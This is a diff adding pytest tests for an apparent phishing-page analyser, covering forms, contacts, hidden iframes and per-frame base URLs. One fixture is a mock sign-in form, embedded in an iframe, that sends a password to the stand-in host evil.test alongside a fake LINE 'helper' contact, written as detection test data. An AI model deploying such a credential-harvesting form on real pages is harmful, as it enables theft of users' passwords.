@@ -143,3 +143,35 @@ BANK = '<base href="https://bank.test/">'
 def test_a_base_that_browsers_with_scripts_do_not_read_moves_no_form(bases: str, host: str, flood: str) -> None:
     facts, _ = read(f"{bases}<form action=/login>{PASSWORD}</form>{flood}")
     assert senders(facts) == {host}
+
+
+@pytest.mark.parametrize("flood", ["", STREAM], ids=["tree", "tokens"])
+def test_a_page_that_is_written_into_a_frame_is_part_of_the_page(flood: str) -> None:
+    inner = (
+        "<h1>Sign in</h1><p>Call 02-123-4567</p><form action=//evil.test/s><input type=password></form>"
+        "<a href='https://line.me/ti/p/~helper99'>LINE</a>"
+    ).replace("'", "&#39;")
+    facts, _ = read(f"<p>outside</p><iframe srcdoc='{inner}'></iframe>{flood}")
+    assert facts.text.split("\n")[:3] == ["outside", "Sign in", "Call 02-123-4567"]
+    assert (facts.asks, senders(facts), facts.headings) == (("password",), {"evil.test"}, ("Sign in",))
+    assert (facts.form_count, facts.link_count, facts.foreign_hosts) == (1, 1, ("line.me",))
+    assert "line" in {contact.kind for contact in facts.contacts}
+
+
+@pytest.mark.parametrize("how", ["hidden", "style=display:none", "width=0"])
+def test_a_hidden_frame_shows_nothing(how: str) -> None:
+    facts, _ = read(f"<p>outside</p><iframe {how} srcdoc='<p>inside</p>'></iframe>")
+    assert (facts.text, facts.hidden_text) == ("outside", "inside")
+
+
+def test_the_base_of_a_frame_is_its_own() -> None:
+    frame = f"<base href=//bank.test/><form action=go>{PASSWORD}</form><a href=x>x</a>"
+    facts, _ = read(f"<form action=own>{PASSWORD}</form><iframe srcdoc='{frame}'></iframe>")
+    assert {form.action for form in facts.forms} == {"https://a.test/d/own", "https://bank.test/go"}
+    assert facts.foreign_hosts == ("bank.test",)
+
+
+def test_frames_within_frames_are_not_read_and_many_are_told() -> None:
+    facts, _ = read("<iframe srcdoc='<iframe srcdoc=&quot;<p>deep</p>&quot;></iframe><p>one</p>'></iframe>")
+    assert facts.text == "one"
+    assert "frames within 20" in read("<iframe srcdoc='<p>x'></iframe>" * 21)[1]
